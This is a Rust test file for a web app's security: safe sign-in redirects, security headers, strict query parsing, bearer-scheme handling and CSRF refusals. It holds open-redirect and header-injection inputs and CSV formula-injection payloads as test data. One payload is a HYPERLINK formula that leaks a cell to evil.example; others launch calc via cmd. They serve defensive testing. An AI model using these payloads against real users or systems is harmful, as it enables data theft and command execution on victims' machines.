//! Security properties seen from outside: the sign-in redirect stays on this site, every answer
//! carries the security headers, CSV exports never hand a spreadsheet a formula, and requests
//! are read strictly (unknown query parameters, the bearer scheme, CSRF refusals).

use reqwest::header::{COOKIE, LOCATION, SET_COOKIE};
use reqwest::redirect::Policy;
use serde_json::{json, Value};

use crate::helpers::{assert_problem, spawn_app, TestApp};
use crate::web::{csrf_of, Browser};

fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(Policy::none())
        .build()
        .expect("client")
}

fn encode(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

#[tokio::test]
async fn sign_in_returns_only_to_a_path_on_this_site() {
    let app = spawn_app().await;
    for (next, expected) in [
        // Browsers drop TAB, CR and LF inside a URL: each of these is `//evil.example`.
        ("/\t/evil.example", "/deals"),
        ("/\n/evil.example", "/deals"),
        ("/\r\n/evil.example", "/deals"),
        ("/\u{b}/evil.example", "/deals"),
        ("/deals\r\nSet-Cookie: stolen=1", "/deals"),
        ("//evil.example", "/deals"),
        ("/\\evil.example", "/deals"),
        ("https://evil.example/", "/deals"),
        ("javascript:alert(1)", "/deals"),
        ("/deals?grade=A&lang=fr", "/deals?grade=A&lang=fr"),
    ] {
        let mut browser = Browser::new(&app);
        // The form keeps only a safe `next`; a control character never makes it fail.
        let (status, _, form) = browser.get(&format!("/login?next={}", encode(next))).await;
        assert_eq!(status, 200, "GET /login?next={next:?}: {form}");
        assert!(
            form.contains(&format!(
                "name=\"next\" value=\"{}\"",
                expected.replace('&', "&#38;")
            )),
            "{next:?}: {form}"
        );
        // A form posted with a forged `next` (not the one served) is held to the same rule.
        let csrf = csrf_of(&form);
        let (status, location, body) = browser
            .post(
                "/login",
                &[("api_key", &app.rep_key), ("csrf", &csrf), ("next", next)],
            )
            .await;
        assert_eq!(
            (status, location.as_deref()),
            (303, Some(expected)),
            "POST next={next:?}: {body}"
        );
    }
}

/// Paths answering every kind of response: page, asset, redirect, API success and problem,
/// HTML error, plain 404, health, OpenAPI, Swagger UI.
const EVERY_KIND: [(&str, Option<&str>); 11] = [
    ("/login", None),
    ("/assets/app.js", None),
    ("/", None),
    ("/deals", None),
    ("/v1/opportunities", Some("rep")),
    ("/v1/opportunities", None),
    ("/v1/opportunities?owner=%ZZ", Some("rep")),
    ("/no/such/page", None),
    ("/healthz", None),
    ("/openapi.json", None),
    ("/docs/", None),
];

#[tokio::test]
async fn every_answer_carries_the_security_headers() {
    let app = spawn_app().await;
    let client = no_redirects();
    for (path, key) in EVERY_KIND {
        let mut request = client.get(app.url(path));
        if key.is_some() {
            request = request.bearer_auth(&app.rep_key);
        }
        let response = request.send().await.expect("request");
        let status = response.status();
        let headers = response.headers();
        let header = |name: &str| {
            headers
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_else(|| panic!("{path} ({status}) has no {name}: {headers:?}"))
                .to_string()
        };
        let policy = header("content-security-policy");
        assert!(policy.contains("frame-ancestors 'none'"), "{path}: {policy}");
        assert!(policy.contains("script-src 'self';"), "{path}: {policy}");
        assert!(
            !policy.contains("'unsafe-inline' 'self'; script"),
            "{path}: {policy}"
        );
        let script = policy
            .split(';')
            .map(str::trim)
            .find(|d| d.starts_with("script-src"))
            .unwrap_or_default();
        assert_eq!(script, "script-src 'self'", "{path}: no inline script");
        if !path.starts_with("/docs/") {
            assert!(!policy.contains("unsafe"), "{path}: {policy}");
        }
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("referrer-policy"), "no-referrer", "{path}");
        assert_eq!(header("x-frame-options"), "DENY", "{path}");
    }
    // A POST the server refuses (bad JSON) is covered too.
    let refused = client
        .put(app.url("/v1/opportunities/x-1"))
        .bearer_auth(&app.analyst_key)
        .header("content-type", "application/json")
        .body("{not json")
        .send()
        .await
        .expect("request");
    assert_eq!(refused.status(), 400);
    assert!(refused.headers().contains_key("content-security-policy"));
}

/// Fetches `path` as CSV with the analyst key and parses it.
async fn csv_rows(app: &TestApp, path: &str) -> Vec<Vec<String>> {
    let response = app
        .client
        .get(app.url(path))
        .bearer_auth(&app.analyst_key)
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), 200, "{path}");
    let text = response.text().await.expect("body");
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("record").iter().map(str::to_string).collect())
        .collect()
}

#[tokio::test]
async fn csv_exports_hand_a_spreadsheet_text_never_a_formula() {
    let app = spawn_app().await;
    let account = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
    let owner = "@SUM(1+1)*cmd|' /C calc'!A0";
    let deal = json!({
        "external_id": "csv-1", "name": "-2+3+cmd|' /C calc'!A0", "account": account,
        "sector": "retail", "region": "+EMEA", "owner": owner, "contact_role": "champion",
        "amount": 1000.0, "currency": "EUR", "status": "won", "created_at": "2025-10-01",
        "closed_at": "2025-11-15", "interaction_count": 4, "response_hours": 5.0
    });
    let put = app.put_opportunity("csv-1", &deal).await;
    assert!(
        put.status().is_success(),
        "{}",
        put.text().await.unwrap_or_default()
    );
    let objectives = app
        .client
        .put(app.url("/v1/objectives"))
        .bearer_auth(&app.analyst_key)
        .json(
            &json!({"objectives": [{"scope": "owner", "name": owner, "period": "2025-Q4",
            "metric": "won_revenue", "currency": "EUR", "target": 400}]}),
        )
        .send()
        .await
        .expect("objectives");
    assert_eq!(objectives.status(), 200);

    let accounts = csv_rows(&app, "/v1/insights/accounts?format=csv").await;
    assert_eq!(accounts[0][0], format!("'{account}"), "{accounts:?}");

    let pipeline = csv_rows(
        &app,
        "/v1/insights/pipeline?group_by=owner&from=2025-10-01&to=2025-12-31&format=csv",
    )
    .await;
    assert!(
        pipeline.iter().any(|row| row[1] == format!("'{owner}")),
        "{pipeline:?}"
    );
    let by_region = csv_rows(
        &app,
        "/v1/insights/pipeline?group_by=region&from=2025-10-01&to=2025-12-31&format=csv",
    )
    .await;
    assert!(by_region.iter().any(|row| row[1] == "'+EMEA"), "{by_region:?}");

    // A negative number stays a number: the gap of an objective beaten by 600.
    let text = app
        .client
        .get(app.url("/v1/insights/objectives?period=2025-Q4&format=csv"))
        .bearer_auth(&app.analyst_key)
        .send()
        .await
        .expect("objectives csv")
        .text()
        .await
        .expect("body");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let columns: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    let row: Vec<String> = reader
        .records()
        .next()
        .expect("one objective")
        .expect("record")
        .iter()
        .map(str::to_string)
        .collect();
    let column = |name: &str| &row[columns.iter().position(|c| c == name).expect(name)];
    assert_eq!(column("name"), &format!("'{owner}"), "{text}");
    assert_eq!(column("gap"), "-600", "{text}");

    // The dashboard's download goes through the same writer.
    let mut analyst = Browser::new(&app);
    analyst.sign_in(&app.analyst_key).await;
    let (status, _, csv) = analyst
        .get("/pipeline.csv?table=owner&from=2025-10-01&to=2025-12-31")
        .await;
    assert_eq!(status, 200, "{csv}");
    assert!(csv.contains(&format!("'{owner}")), "{csv}");
}

#[tokio::test]
async fn a_misspelt_query_parameter_is_a_400_naming_it() {
    let app = spawn_app().await;
    for (path, typo) in [
        ("/v1/opportunities?stauts=open", "stauts"),
        ("/v1/opportunities?owner=alice&limt=5", "limt"),
        ("/v1/opportunities/priority?grdae=A", "grdae"),
        ("/v1/opportunities/priority?owner=alice&sort_by=score", "sort_by"),
    ] {
        let response = app
            .client
            .get(app.url(path))
            .bearer_auth(&app.rep_key)
            .send()
            .await
            .expect("request");
        let problem = assert_problem(response, 400, None).await;
        let detail = problem["detail"].as_str().unwrap_or_default();
        assert!(detail.contains(typo), "{path}: {problem}");
    }
    // Known parameters, `lang` included, are still accepted.
    let (status, body) = app
        .get_json(
            "/v1/opportunities?status=open&owner=alice&limit=5&lang=fr",
            &app.rep_key,
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = app
        .get_json(
            "/v1/opportunities/priority?owner=alice&sort=score&limit=5&lang=fr",
            &app.rep_key,
        )
        .await;
    assert_eq!(status, 503, "valid query, no model yet: {body}");
    // `?lang=` is documented for every route, strict ones included.
    for path in [
        "/v1/insights/accounts?lang=fr",
        "/v1/insights/pipeline?lang=fr",
        "/v1/training-runs?lang=fr",
    ] {
        let (status, body) = app.get_json(path, &app.analyst_key).await;
        assert_eq!(status, 200, "{path}: {body}");
    }
}

#[tokio::test]
async fn the_bearer_scheme_is_case_insensitive() {
    let app = spawn_app().await;
    for scheme in ["Bearer", "bearer", "BEARER"] {
        let response = app
            .client
            .get(app.url("/v1/opportunities"))
            .header("authorization", format!("{scheme} {}", app.rep_key))
            .send()
            .await
            .expect("request");
        assert_eq!(response.status(), 200, "{scheme}");
    }
    let basic = app
        .client
        .get(app.url("/v1/opportunities"))
        .header("authorization", format!("Basic {}", app.rep_key))
        .send()
        .await
        .expect("request");
    let problem: Value = assert_problem(basic, 401, None).await;
    assert!(problem["detail"].as_str().unwrap_or_default().contains("Bearer"));
}

/// Signs in with `key` by hand and returns the `Cookie` header of the session.
async fn session_cookie(app: &TestApp, key: &str) -> String {
    let client = no_redirects();
    let form = client.get(app.url("/login")).send().await.expect("login");
    let login_cookie = cookie_pair(&form, "dealscore_login_csrf");
    let csrf = csrf_of(&form.text().await.expect("form"));
    let signed_in = client
        .post(app.url("/login"))
        .header(COOKIE, login_cookie)
        .form(&[("api_key", key), ("csrf", &csrf)])
        .send()
        .await
        .expect("sign in");
    assert_eq!(signed_in.status(), 303);
    assert_eq!(
        signed_in.headers().get(LOCATION).and_then(|v| v.to_str().ok()),
        Some("/deals")
    );
    cookie_pair(&signed_in, "dealscore_session")
}

fn cookie_pair(response: &reqwest::Response, name: &str) -> String {
    response
        .headers()
        .get_all(SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|c| c.starts_with(&format!("{name}=")))
        .and_then(|c| c.split(';').next())
        .unwrap_or_else(|| panic!("no {name} cookie"))
        .to_string()
}

#[tokio::test]
async fn a_form_post_without_its_csrf_token_is_a_403() {
    let app = spawn_app().await;
    let cookie = session_cookie(&app, &app.analyst_key).await;
    let client = no_redirects();
    for path in ["/logout", "/models/train", "/models/v1/activate"] {
        // No body at all, a JSON body, an empty form: no token in any of them.
        let bare = client
            .post(app.url(path))
            .header(COOKIE, &cookie)
            .send()
            .await
            .expect("post");
        assert_eq!(bare.status(), 403, "{path} without a body");
        let json = client
            .post(app.url(path))
            .header(COOKIE, &cookie)
            .json(&json!({"csrf": "x"}))
            .send()
            .await
            .expect("post");
        assert_eq!(json.status(), 403, "{path} with JSON");
        let empty = client
            .post(app.url(path))
            .header(COOKIE, &cookie)
            .form(&[("force", "on")])
            .send()
            .await
            .expect("post");
        assert_eq!(empty.status(), 403, "{path} without the token");
    }
    // The session is still open: nothing was signed out.
    let still = client
        .get(app.url("/models"))
        .header(COOKIE, &cookie)
        .send()
        .await
        .expect("models");
    assert_eq!(still.status(), 200);
}
